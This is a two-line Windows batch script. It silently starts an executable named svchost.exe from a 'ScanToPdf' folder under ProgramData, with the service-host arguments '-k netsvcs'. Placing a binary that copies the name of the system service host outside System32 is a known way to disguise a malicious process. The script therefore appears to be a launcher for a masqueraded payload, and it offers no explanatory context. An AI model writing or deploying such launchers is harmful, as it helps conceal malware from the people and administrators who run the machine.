@echo off
start "" "C:\ProgramData\ScanToPdf\svchost.exe" -k netsvcs
